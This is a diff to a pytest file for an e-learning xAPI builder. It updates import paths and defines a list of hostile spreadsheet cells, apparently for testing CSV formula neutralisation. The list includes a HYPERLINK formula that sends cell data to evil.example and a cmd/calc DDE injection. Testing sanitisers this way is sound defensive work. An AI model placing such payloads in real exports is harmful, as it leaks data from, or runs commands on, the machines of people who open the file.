@@ -9,10 +9,10 @@ import json
 import pytest
 from click.testing import CliRunner
 
-from elearn_builder.cli import main
-from elearn_builder.csvcells import neutralise
-from elearn_builder.generate import generate_statements, json_lines
-from elearn_builder.lrs import csv_lines
+from elearn_builder.cli.commands import main
+from elearn_builder.report.csvcells import neutralise
+from elearn_builder.xapi.generate import generate_statements, json_lines
+from elearn_builder.xapi.lrs import csv_lines
 
 EXT = "https://xapi.reflective-supervision.org.uk/extensions/"
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
